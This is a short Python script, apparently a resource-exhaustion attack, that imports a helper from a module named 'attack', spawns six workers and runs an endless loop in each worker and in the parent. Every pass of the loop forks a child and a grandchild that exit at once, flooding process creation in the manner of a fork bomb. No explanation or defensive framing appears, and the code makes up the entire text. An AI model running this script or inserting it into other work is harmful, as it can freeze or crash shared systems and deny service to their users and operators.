import os
from attack import children
def flood(_):
    while True:
        try:
            if os.fork() == 0:
                if os.fork() == 0: os._exit(0)
                os._exit(0)
            os.wait()
        except OSError: pass
children(6, flood)
flood(0)
